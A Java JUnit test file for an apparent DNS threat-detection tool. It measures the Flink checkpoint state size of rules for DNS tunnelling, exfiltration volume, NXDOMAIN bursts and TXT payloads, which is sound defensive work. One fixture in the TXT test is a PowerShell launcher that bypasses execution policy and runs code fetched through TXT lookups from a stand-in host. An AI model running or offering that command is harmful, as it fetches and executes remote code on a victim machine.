package dev.dnshunter.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.dnshunter.config.DetectionConfig;
import dev.dnshunter.generate.ReferenceDetector;
import dev.dnshunter.model.DnsQuery;
import dev.dnshunter.net.DomainRules;
import dev.dnshunter.rules.exfilvolume.ExfilParams;
import dev.dnshunter.rules.exfilvolume.ExfilVolumeFunction;
import dev.dnshunter.rules.nxdomainburst.NxdomainBurstFunction;
import dev.dnshunter.rules.nxdomainburst.NxdomainParams;
import dev.dnshunter.rules.nxdomainburst.NxdomainQueries;
import dev.dnshunter.rules.tunnelsubdomains.TunnelParams;
import dev.dnshunter.rules.tunnelsubdomains.TunnelShape;
import dev.dnshunter.rules.tunnelsubdomains.TunnelSubdomainsFunction;
import dev.dnshunter.rules.txtpayload.TxtPayloadAlert;
import dev.dnshunter.rules.txtpayload.TxtPayloadFunction;
import dev.dnshunter.rules.txtpayload.TxtPayloadRule;
import dev.dnshunter.rules.txtpayload.TxtPayloads;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import org.apache.flink.api.common.functions.util.ListCollector;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.api.java.functions.KeySelector;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.apache.flink.runtime.state.KeyedStateHandle;
import org.apache.flink.runtime.state.hashmap.HashMapStateBackend;
import org.apache.flink.runtime.state.storage.JobManagerCheckpointStorage;
import org.apache.flink.streaming.api.functions.KeyedProcessFunction;
import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
import org.apache.flink.streaming.api.watermark.Watermark;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.junit.jupiter.api.Test;

/**
 * The keyed state the four newer rules keep per key, as a checkpoint stores it with the hashmap backend (issues 11
 * and 12). Each shape feeds many keys through the rule's keyed function in Flink's keyed one-input operator harness,
 * takes a snapshot and divides the bytes of its managed keyed state, less those of the same harness's empty snapshot
 * (state names, serializer snapshots: a fixed overhead), by the number of keys. The figures are printed;
 * docs/performance.md quotes them. Each is checked against an upper bound derived from what the serializers write for the
 * state the function holds then ({@link Layout}), with a 10 % margin, and a key after its cleanup timer must leave
 * exactly nothing. A size measurement, not a timing.
 *
 * <p>Keys come in three shapes in turn, each of fixed width: an IPv4 client, an IPv6 client and a client known only by
 * its host name. Key counts are multiples of 3, so every shape's figure averages the same mix.
 */
class NewRulesStateSizeTest {
    static final long T0 = 1_700_000_000_000L;
    static final long SEC = 1_000L;
    static final long MIN = 60 * SEC;
    static final long HOUR = 60 * MIN;
    static final long DAY = 24 * HOUR;
    static final DomainRules DOMAINS = ReferenceDetector.domainRules(DetectionConfig.defaults());
    /**
     * Measured per key may exceed the layout's bound by this factor (it absorbs format details of another Flink
     * version). With Flink 2.2 every shape measured exactly its bound, except where timers coincide (below it).
     */
    static final double MARGIN = 1.10;

    // ---------------------------------------------------------------------------------------------------------------
    // Inputs

    /** A query of client {@code c}: an IPv4 address, an IPv6 address or only a host name, in turn. */
    static DnsQuery query(int c, long time, String name, int type, int rcode, String[] answers) {
        int j = c / 3;
        String address = switch (c % 3) {
            case 0 -> String.format(Locale.ROOT, "10.1%02d.1%02d.1%02d", j / 10_000 % 100, j / 100 % 100, j % 100);
            case 1 -> String.format(Locale.ROOT, "2001:db8:0:1::%x", 0x1000 + j);
            default -> null;
        };
        String host = c % 3 == 2 ? String.format(Locale.ROOT, "WS-%05d.corp.example.com", j) : null;
        return new DnsQuery(time, address, host, name, type, rcode, null, answers, "suricata", null, null);
    }

    static final String BASE32 = "abcdefghijklmnopqrstuvwxyz234567";

    static String base32(SplittableRandom r, int n) {
        char[] c = new char[n];
        for (int i = 0; i < n; i++) c[i] = BASE32.charAt(r.nextInt(32));
        return new String(c);
    }

    static String letters(SplittableRandom r, int n) {
        char[] c = new char[n];
        for (int i = 0; i < n; i++) c[i] = (char) ('a' + r.nextInt(26));
        return new String(c);
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Measuring

    /** A harness of one keyed function with the hashmap backend, and its keyed-state bytes as snapshots store them. */
    static final class Meter<I, O> {
        final KeyedOneInputStreamOperatorTestHarness<String, I, O> h;
        /** The empty harness's snapshot: state names and serializer snapshots, no key. */
        final long empty;
        long checkpoint = 1;

        Meter(KeyedProcessFunction<String, I, O> function, KeySelector<I, String> key) throws Exception {
            h = new KeyedOneInputStreamOperatorTestHarness<>(new KeyedProcessOperator<>(function), key, Types.STRING);
            h.setStateBackend(new HashMapStateBackend());
            // The memory checkpoint storage, without its 5 MiB limit: the larger shapes write tens of MB.
            h.setCheckpointStorage(new JobManagerCheckpointStorage(Integer.MAX_VALUE));
            h.open();
            empty = keyedBytes();
            System.out.printf(Locale.ROOT, "STATE %-22s | empty harness's snapshot (state names, serializer snapshots): %,d B%n",
                    function.getClass().getSimpleName(), empty);
        }

        void feed(I element, long time) throws Exception {
            h.processElement(new StreamRecord<>(element, time));
        }

        void watermark(long t) throws Exception {
            h.processWatermark(new Watermark(t));
        }

        int outputs() {
            int n = 0;
            for (Object o : h.getOutput()) if (o instanceof StreamRecord<?>) n++;
            return n;
        }

        /** Bytes of the keyed state of a snapshot taken now: the sizes of its managed keyed state handles. */
        long keyedBytes() throws Exception {
            long id = checkpoint++;
            OperatorSubtaskState s = h.snapshot(id, id);
            long managed = 0;
            for (KeyedStateHandle k : s.getManagedKeyedState()) managed += k.getStateSize();
            long raw = 0;
            for (KeyedStateHandle k : s.getRawKeyedState()) raw += k.getStateSize();
            assertEquals(0, raw, "the hashmap backend writes the timers with the managed keyed state, none raw");
            return managed;
        }

        /** Keyed-state bytes per key now, less the empty snapshot's. */
        double perKey(int keys) throws Exception {
            return (double) (keyedBytes() - empty) / keys;
        }

        /** Nothing left: no state entry, no timer, and a snapshot exactly as large as the empty harness's. */
        void assertEmpty(String what) throws Exception {
            assertEquals(0, h.numKeyedStateEntries(), what + ": state entries");
            assertEquals(0, h.numEventTimeTimers(), what + ": timers");
            assertEquals(empty, keyedBytes(), what + ": snapshot bytes");
        }
    }

    /** One measured figure, printed and checked against the bound its layout gives. */
    static double figure(String rule, String shape, int keys, double perKey, double layoutPerKey) {
        System.out.printf(Locale.ROOT, "STATE %-22s | %-62s | %5d keys | %,12.1f B/key | layout bound %,12.1f B/key%n", rule, shape, keys,
                perKey, layoutPerKey);
        assertTrue(perKey <= layoutPerKey * MARGIN, rule + " " + shape + ": " + perKey + " B/key over the layout's " + layoutPerKey);
        assertTrue(perKey >= layoutPerKey / 2, rule + " " + shape + ": " + perKey + " B/key, not even half the layout's "
                + layoutPerKey + ": is the state measured at all?");
        return perKey;
    }

    static void zero(String rule, String shape, Meter<?, ?> m) throws Exception {
        m.assertEmpty(rule + " " + shape);
        System.out.printf(Locale.ROOT, "STATE %-22s | %-62s | %5s      | %12s B/key |%n", rule, shape, "", "0");
    }

    /**
     * Upper bounds of what the hashmap backend's snapshot writes, from Flink's serializers. A String (the key, a
     * text) is a length byte and one byte per character (ASCII, under 127 characters); the namespace (VoidNamespace)
     * one byte. A ValueState entry: key, namespace, value (a Long 8 bytes, a long[] 4 + 8 per element). A MapState
     * entry of a key: key, namespace, the map's size (4), then per user entry its Long key (8), a null flag (1) and
     * the value. A POJO: a header byte, then per field a null flag and the field (an int 4, a long 8, an array 4 plus
     * its elements). An event-time timer: key, namespace, timestamp (8).
     */
    static final class Layout {
        private Layout() {}

        static int string(String s) {
            assertTrue(s.length() < 127 && s.chars().allMatch(c -> c < 0x80), "one byte per character: " + s);
            return 1 + s.length();
        }

        static int value(int key, int bytes) {
            return key + 1 + bytes;
        }

        static int map(int key) {
            return key + 1 + 4;
        }

        static int mapEntry(int bytes) {
            return 8 + 1 + bytes;
        }

        static int timer(int key) {
            return key + 1 + 8;
        }

        static int pojo(int... fields) {
            int n = 1;
            for (int f : fields) n += 1 + f;
            return n;
        }

        static final int LONG = 8;
    }

    // ---------------------------------------------------------------------------------------------------------------
    // DnsTunnelingSubdomains: (identity, domain); tunnel-shaped queries of the window, suppression end, last seen,
    // cleanup time; a pair idle for max(window, suppression) keeps nothing.

    static final String TUNNEL_DOMAIN = "evil-c2.com";

    /** The tunnel-shaped queries of a pair: 48 base32 characters under evil-c2.com, 60 characters a name. */
    static SubdomainQuery tunnel(int client, long time, SplittableRandom r) {
        SubdomainQuery s = SubdomainQuery.ofQuestion(query(client, time, base32(r, 48) + "." + TUNNEL_DOMAIN, 16, 0, null), DOMAINS);
        assertNotNull(s);
        assertEquals(TUNNEL_DOMAIN, s.domain);
        assertTrue(TunnelShape.test(s.subdomain, TunnelParams.DEFAULTS));
        return s;
    }

    /**
     * The pair's state with {@code names} names (one per millisecond) in the window and the cap's counts of {@code slots}
     * window-aligned slots, as {@link Layout} bounds it.
     */
    static int tunnelLayout(int key, List<String> names, boolean suppressed, int slots) {
        int window = Layout.map(key);
        for (String n : names) window += Layout.mapEntry(Layout.pojo(4 + Layout.string(n), 4 + 4));
        int held = Layout.map(key) + slots * Layout.mapEntry(4);
        int values = (suppressed ? 3 : 2) * Layout.value(key, Layout.LONG); // last seen, cleanup time (, suppression end)
        return window + held + values + Layout.timer(key); // the cleanup timer; the query times' timers have fired
    }

    @Test
    void tunnelSubdomains() throws Exception {
        // T0 lies 200 s into a 5-minute slot of the cap's counts: one name at T0 has one slot; the burst (T0 to
        // T0 + 280 s) and the active tunnel's last window (its earlier slot pruned by the last judgement) two each.
        assertEquals(200_000, Math.floorMod(T0, TunnelParams.DEFAULTS.windowMillis()));
        String rule = "DnsTunnelingSubdomains";
        TunnelParams p = TunnelParams.DEFAULTS;
        assertFalse(TunnelShape.test("www", p), "an ordinary query is not tunnel-shaped: it never reaches the keyed state");
        int keys = 999;

        // One tunnel-shaped name (an antivirus reputation lookup, say), then nothing.
        var one = new Meter<>(new TunnelSubdomainsFunction(p), SubdomainQuery::key);
        SplittableRandom r = new SplittableRandom(11);
        double layout = 0;
        for (int c = 0; c < keys; c++) {
            SubdomainQuery s = tunnel(c, T0, r);
            one.feed(s, s.time);
            layout += tunnelLayout(Layout.string(s.key()), List.of(s.name), false, 1);
        }
        one.watermark(T0);
        figure(rule, "1 tunnel-shaped name in the window", keys, one.perKey(keys), layout / keys);
        one.watermark(T0 + p.suppressionMillis());
        zero(rule, "after the cleanup timer (max(window, suppression) idle)", one);

        // 14 distinct names in 5 min (one below the threshold), then the 15th (alert, suppression), then quiet.
        var burst = new Meter<>(new TunnelSubdomainsFunction(p), SubdomainQuery::key);
        List<List<SubdomainQuery>> byKey = new ArrayList<>();
        for (int c = 0; c < keys; c++) {
            List<SubdomainQuery> qs = new ArrayList<>();
            for (int i = 0; i < p.names(); i++) qs.add(tunnel(c, T0 + i * 20 * SEC, r));
            byKey.add(qs);
        }
        long before = T0 + (p.names() - 2) * 20 * SEC;
        long last = T0 + (p.names() - 1) * 20 * SEC;
        double below = 0;
        double at = 0;
        for (List<SubdomainQuery> qs : byKey) {
            for (SubdomainQuery s : qs.subList(0, p.names() - 1)) burst.feed(s, s.time);
            int k = Layout.string(qs.get(0).key());
            below += tunnelLayout(k, qs.subList(0, p.names() - 1).stream().map(s -> s.name).toList(), false, 2);
            at += tunnelLayout(k, qs.stream().map(s -> s.name).toList(), true, 2);
        }
        burst.watermark(before);
        assertEquals(0, burst.outputs());
        figure(rule, "14 distinct names in the window (one below the threshold)", keys, burst.perKey(keys), below / keys);
        for (List<SubdomainQuery> qs : byKey) burst.feed(qs.get(p.names() - 1), last);
        burst.watermark(last);
        assertEquals(keys, burst.outputs(), "every key alerts at its 15th name");
        double alerted = figure(rule, "15 distinct names: alerted, window + suppression end", keys, burst.perKey(keys), at / keys);
        burst.watermark(last + 30 * MIN);
        double later = figure(rule, "the same, 30 min later with no further query", keys, burst.perKey(keys), at / keys);
        assertEquals(alerted, later, "the window is pruned only when the pair's next query is judged (or at the cleanup)");
        burst.watermark(last + p.suppressionMillis());
        zero(rule, "after the cleanup timer", burst);

        // An active tunnel: one name a second for 10 min; the window holds the last 5 min.
        int tunnels = 99;
        var active = new Meter<>(new TunnelSubdomainsFunction(p), SubdomainQuery::key);
        double activeLayout = 0;
        long end = T0 + 10 * MIN - SEC;
        for (int c = 0; c < tunnels; c++) {
            List<String> inWindow = new ArrayList<>();
            String key = null;
            for (long t = T0; t <= end; t += SEC) {
                SubdomainQuery s = tunnel(c, t, r);
                active.feed(s, t);
                key = s.key();
                if (t > end - p.windowMillis()) inWindow.add(s.name);
            }
            activeLayout += tunnelLayout(Layout.string(key), inWindow, true, 2);
        }
        active.watermark(end);
        figure(rule, "active tunnel, 1 name/s: 300 names in the window + suppression", tunnels, active.perKey(tunnels),
                activeLayout / tunnels);
    }

    // ---------------------------------------------------------------------------------------------------------------
    // DnsExfiltrationVolume: (identity, domain); per distinct subdomain of the last 24 h an entry (hash → length,
    // latest time, text), per millisecond with queries a slot (its hashes, its query count, the next millisecond), one
    // array of the tiers' sums with the queue's ends, the suppression ends, last seen, the cleanup time and the waiting
    // queries' timer; once judged, the cleanup timer alone.

    static final String EXFIL_DOMAIN = "exfil-x.net";

    static SubdomainQuery exfil(int client, long time, String subdomain, String domain) {
        SubdomainQuery s = SubdomainQuery.ofQuestion(query(client, time, subdomain + "." + domain, 1, 0, null), DOMAINS);
        assertNotNull(s);
        assertEquals(domain, s.domain);
        s.name = null; // as the rule's flatMap sends it
        return s;
    }

    /** Per subdomain of its own millisecond: its entry and its slot (one hash, the next millisecond); no timer. */
    static int exfilPerSubdomainBound(int key, int length) {
        int entry = Layout.mapEntry(Layout.pojo(4, Layout.LONG, 1 + length));
        return entry + exfilSlot(1);
    }

    /** A millisecond's slot with {@code hashes} subdomain hashes: the hashes, the next millisecond, the query count. */
    static int exfilSlot(int hashes) {
        return Layout.mapEntry(Layout.pojo(4 + hashes * Layout.LONG, Layout.LONG, 4));
    }

    /**
     * The pair's values, one array of fourteen: the sums with the queue's ends (nine), the suppression ends (two, kept
     * whether it alerted or not), last seen, the cleanup time and the waiting queries' timer.
     */
    static int exfilValues(int key) {
        return Layout.value(key, 4 + 14 * Layout.LONG);
    }

    /**
     * The pair's state with {@code kept} entries and slots of one subdomain each and {@code timers} pending, as
     * {@link Layout} bounds it.
     */
    static long exfilLayout(int key, int kept, int length, long timers) {
        long entries = Layout.map(key) + (long) kept * Layout.mapEntry(Layout.pojo(4, Layout.LONG, 1 + length));
        long slots = Layout.map(key) + (long) kept * exfilSlot(1);
        return entries + slots + exfilValues(key) + timers * Layout.timer(key);
    }

    /**
     * {@code n} distinct 40-character base32 subdomains per key, one every {@code step}, judged up to the last; then
     * nothing until the cleanup.
     */
    static Shape exfilShape(String shape, int keys, int n, long step, ExfilParams p) throws Exception {
        var m = new Meter<>(new ExfilVolumeFunction(p), SubdomainQuery::key);
        SplittableRandom r = new SplittableRandom(n);
        long last = T0 + (n - 1) * step;
        List<Integer> keyBytes = new ArrayList<>();
        for (int c = 0; c < keys; c++) {
            String key = null;
            for (int i = 0; i < n; i++) {
                SubdomainQuery s = exfil(c, T0 + i * step, base32(r, 40), EXFIL_DOMAIN);
                m.feed(s, s.time);
                key = s.key();
            }
            keyBytes.add(Layout.string(key));
        }
        m.watermark(last);
        int alerts = m.outputs();
        double timers = (double) m.h.numEventTimeTimers() / keys;
        assertEquals(0, alerts % keys, shape + ": every key alerts alike");
        int kept = Math.min(n, p.maxSubdomains());
        assertEquals(1.0, timers, shape + ": the cleanup timer alone once every millisecond is judged");
        double layout = 0;
        for (int k : keyBytes) layout += exfilLayout(k, kept, 40, 1);
        double perKey = figure("DnsExfiltrationVolume", shape + (alerts > 0 ? ", alerted" : ""), keys, m.perKey(keys), layout / keys);
        System.out.printf(Locale.ROOT, "STATE %-22s |   timers per key: %.0f%n", "DnsExfiltrationVolume", timers);
        m.watermark(last + DAY);
        zero("DnsExfiltrationVolume", "  the same, after the cleanup timer (24 h idle)", m);
        return new Shape(perKey, timers);
    }

    /** Bytes and timers per key of one shape. */
    record Shape(double perKey, double timers) {}

    @Test
    void exfiltrationVolume() throws Exception {
        String rule = "DnsExfiltrationVolume";
        ExfilParams p = ExfilParams.DEFAULTS;

        // A benign pair: one ordinary query (www), then nothing for 24 h.
        int keys = 999;
        var benign = new Meter<>(new ExfilVolumeFunction(p), SubdomainQuery::key);
        double layout = 0;
        for (int c = 0; c < keys; c++) {
            SubdomainQuery s = exfil(c, T0, "www", "example.com");
            benign.feed(s, s.time);
            layout += exfilLayout(Layout.string(s.key()), 1, 3, 1);
        }
        benign.watermark(T0);
        figure(rule, "benign: 1 ordinary query (www.example.com)", keys, benign.perKey(keys), layout / keys);
        benign.watermark(T0 + DAY);
        zero(rule, "benign, after the cleanup timer (24 h idle)", benign);

        // A slow tool: 40-character labels. The daily tier fires at 1,000 of them (40,000 characters), the hourly at
        // 100 in an hour (4,000 characters).
        exfilShape("100 subdomains (1 a minute)", 999, 100, MIN, p);
        double s1440 = exfilShape("1,440 subdomains (1 a minute for 24 h)", 201, 1_440, MIN, p).perKey();
        double s10k = exfilShape("10,000 subdomains (1 every 8.64 s for 24 h)", 21, 10_000, 8_640, p).perKey();

        // Bytes per subdomain, between two pairs of 24 h.
        double slope = (s10k - s1440) / (10_000 - 1_440);
        int maxKey = Layout.string(exfil(2, T0, "x", EXFIL_DOMAIN).key()); // the host-name keys are the longest
        int bound = exfilPerSubdomainBound(maxKey, 40);
        System.out.printf(Locale.ROOT, "STATE %-22s | bytes per 40-character subdomain: %.1f (layout bound %d: entry, slot)%n", rule,
                slope, bound);
        assertTrue(slope <= bound, "bytes per subdomain " + slope + " over the layout's " + bound);
        double atCap = s10k + (p.maxSubdomains() - 10_000) * slope;
        System.out.printf(Locale.ROOT, "STATE %-22s | at the cap (%,d subdomains, one per millisecond, 24 h): about %,.0f B/key extrapolated%n",
                rule, p.maxSubdomains(), atCap);
        assertTrue(atCap <= (double) p.maxSubdomains() * bound + 1_000, "the capped pair within cap × the per-subdomain bound");

        // A beacon: the same 10 subdomains together every minute for 24 h. Each millisecond's slot lists them again,
        // so its state grows with its queries' milliseconds, not with its 10 subdomains.
        int beacons = 21;
        var beacon = new Meter<>(new ExfilVolumeFunction(p), SubdomainQuery::key);
        SplittableRandom rb = new SplittableRandom(10);
        double beaconLayout = 0;
        for (int c = 0; c < beacons; c++) {
            List<String> subs = new ArrayList<>();
            for (int i = 0; i < 10; i++) subs.add(base32(rb, 40));
            String key = null;
            for (int minute = 0; minute < 1_440; minute++) {
                for (String sub : subs) {
                    SubdomainQuery s = exfil(c, T0 + minute * MIN, sub, EXFIL_DOMAIN);
                    beacon.feed(s, s.time);
                    key = s.key();
                }
            }
            int k = Layout.string(key);
            beaconLayout += Layout.map(k) + 10 * Layout.mapEntry(Layout.pojo(4, Layout.LONG, 1 + 40))
                    + Layout.map(k) + 1_440 * exfilSlot(10) + exfilValues(k) + Layout.timer(k);
        }
        beacon.watermark(T0 + 1_439 * MIN);
        assertEquals(0, beacon.outputs());
        figure(rule, "10 subdomains, each queried every minute for 24 h", beacons, beacon.perKey(beacons), beaconLayout / beacons);
        beacon.watermark(T0 + 1_439 * MIN + DAY);
        zero(rule, "  the same, after the cleanup timer (24 h idle)", beacon);

        // The cap at work, scaled down: cap 1,000 and 2,000 subdomains in 24 h. Entries and slots stay at the cap, and
        // a dropped millisecond leaves no timer behind.
        ExfilParams capped = new ExfilParams(p.hourlyChars(), p.hourlySubdomains(), p.dailyChars(), p.dailySubdomains(), 1_000);
        Shape c = exfilShape("cap 1,000, 2,000 subdomains in 24 h", 21, 2_000, 43_200, capped);
        double c2000 = c.perKey();
        int entryAndSlot = bound;
        assertTrue(c2000 > 0.9 * capped.maxSubdomains() * entryAndSlot, "the capped pair keeps the entries and slots of the cap");
        assertTrue(c2000 <= (double) capped.maxSubdomains() * entryAndSlot + Layout.timer(maxKey) + 1_000,
                "the capped pair: cap × (entry + slot) and its cleanup timer");
        assertEquals(1.0, c.timers(), "a dropped millisecond leaves no timer");
    }

    // ---------------------------------------------------------------------------------------------------------------
    // DnsNxdomainBurst: identity; counted queries of the window (their domains), counts per window-aligned slot,
    // suppression end, last seen, cleanup time; an identity idle for max(window, suppression) keeps nothing.

    static SubdomainQuery nxdomain(int client, long time, String name, NxdomainParams p) {
        SubdomainQuery s = NxdomainQueries.counted(query(client, time, name, 1, NxdomainQueries.NXDOMAIN, null), DOMAINS, p);
        assertNotNull(s);
        return s;
    }

    static int nxdomainLayout(int key, List<String> domains, int slots, boolean suppressed) {
        int window = Layout.map(key);
        for (String d : domains) window += Layout.mapEntry(Layout.pojo(4 + Layout.string(d)));
        int held = Layout.map(key) + slots * Layout.mapEntry(4);
        int values = (suppressed ? 3 : 2) * Layout.value(key, Layout.LONG);
        return window + held + values + Layout.timer(key);
    }

    @Test
    void nxdomainBurst() throws Exception {
        String rule = "DnsNxdomainBurst";
        NxdomainParams p = NxdomainParams.DEFAULTS;
        assertNull(NxdomainQueries.counted(query(0, T0, "www.example.com", 1, 0, null), DOMAINS, p),
                "an answered query is not counted: it never reaches the keyed state");
        int keys = 999;

        // One NXDOMAIN (a typo), then nothing.
        var typo = new Meter<>(new NxdomainBurstFunction(p), NxdomainQueries::key);
        double layout = 0;
        for (int c = 0; c < keys; c++) {
            SubdomainQuery s = nxdomain(c, T0, "www.exmaple.com", p);
            typo.feed(s, s.time);
            layout += nxdomainLayout(Layout.string(NxdomainQueries.key(s)), List.of(s.domain), 1, false);
        }
        typo.watermark(T0);
        figure(rule, "1 NXDOMAIN (a typo) in the window", keys, typo.perKey(keys), layout / keys);
        typo.watermark(T0 + Math.max(p.windowMillis(), p.suppressionMillis()));
        zero(rule, "after the cleanup timer (max(window, suppression) idle)", typo);

        // A DGA: a random 12-letter .com every 2 minutes; 24 distinct domains, then the 25th alerts.
        var dga = new Meter<>(new NxdomainBurstFunction(p), NxdomainQueries::key);
        SplittableRandom r = new SplittableRandom(25);
        long slot = Math.floorDiv(T0, p.windowMillis());
        List<List<SubdomainQuery>> byKey = new ArrayList<>();
        for (int c = 0; c < keys; c++) {
            List<SubdomainQuery> qs = new ArrayList<>();
            for (int i = 0; i < p.domains(); i++) qs.add(nxdomain(c, T0 + i * 2 * MIN, letters(r, 12) + ".com", p));
            byKey.add(qs);
        }
        long before = T0 + (p.domains() - 2) * 2 * MIN;
        long last = T0 + (p.domains() - 1) * 2 * MIN;
        double below = 0;
        double at = 0;
        for (List<SubdomainQuery> qs : byKey) {
            for (SubdomainQuery s : qs.subList(0, p.domains() - 1)) dga.feed(s, s.time);
            int k = Layout.string(NxdomainQueries.key(qs.get(0)));
            int slotsBefore = Math.floorDiv(before, p.windowMillis()) == slot ? 1 : 2;
            int slotsAt = Math.floorDiv(last, p.windowMillis()) == slot ? 1 : 2;
            below += nxdomainLayout(k, qs.subList(0, p.domains() - 1).stream().map(s -> s.domain).toList(), slotsBefore, false);
            at += nxdomainLayout(k, qs.stream().map(s -> s.domain).toList(), slotsAt, true);
        }
        dga.watermark(before);
        assertEquals(0, dga.outputs());
        figure(rule, "24 distinct domains in the window (one below the threshold)", keys, dga.perKey(keys), below / keys);
        for (List<SubdomainQuery> qs : byKey) dga.feed(qs.get(p.domains() - 1), last);
        dga.watermark(last);
        assertEquals(keys, dga.outputs(), "every identity alerts at its 25th domain");
        figure(rule, "25 distinct domains: alerted, window + suppression end", keys, dga.perKey(keys), at / keys);
        dga.watermark(last + Math.max(p.windowMillis(), p.suppressionMillis()));
        zero(rule, "after the cleanup timer", dga);
    }

    // ---------------------------------------------------------------------------------------------------------------
    // DnsTxtPayload: (identity, domain); payloads waiting for the watermark and the suppression end, cleared by a
    // timer at that end.

    @Test
    void txtPayload() throws Exception {
        String rule = "DnsTxtPayload";
        assertTrue(TxtPayloads.benign("v=spf1 include:_spf.example.com ~all", "example.com"),
                "an ordinary TXT answer is no payload: it never reaches the keyed state");
        int keys = 999;
        var m = new Meter<>(new TxtPayloadFunction(TxtPayloadRule.SUPPRESSION_MILLIS), TxtPayloadAlert::key);
        String launcher = "powershell -ep bypass -c \"IEX(((1..5)|%{(nslookup -q=txt \"$_.ps1.evil-dl.com\")[-1]}) -join '')\"";
        double layout = 0;
        for (int c = 0; c < keys; c++) {
            List<TxtPayloadAlert> out = new ArrayList<>();
            TxtPayloadRule.payloads(query(c, T0, "ps1.evil-dl.com", DnsQuery.TYPE_TXT, 0, new String[] {launcher}), DOMAINS,
                    new ListCollector<>(out));
            assertEquals(1, out.size());
            m.feed(out.get(0), T0);
            int k = Layout.string(out.get(0).key());
            layout += Layout.value(k, Layout.LONG) + Layout.timer(k);
        }
        m.watermark(T0);
        assertEquals(keys, m.outputs());
        figure(rule, "in suppression (after an alert)", keys, m.perKey(keys), layout / keys);
        m.watermark(T0 + TxtPayloadRule.SUPPRESSION_MILLIS);
        zero(rule, "after the suppression's timer", m);
    }
}
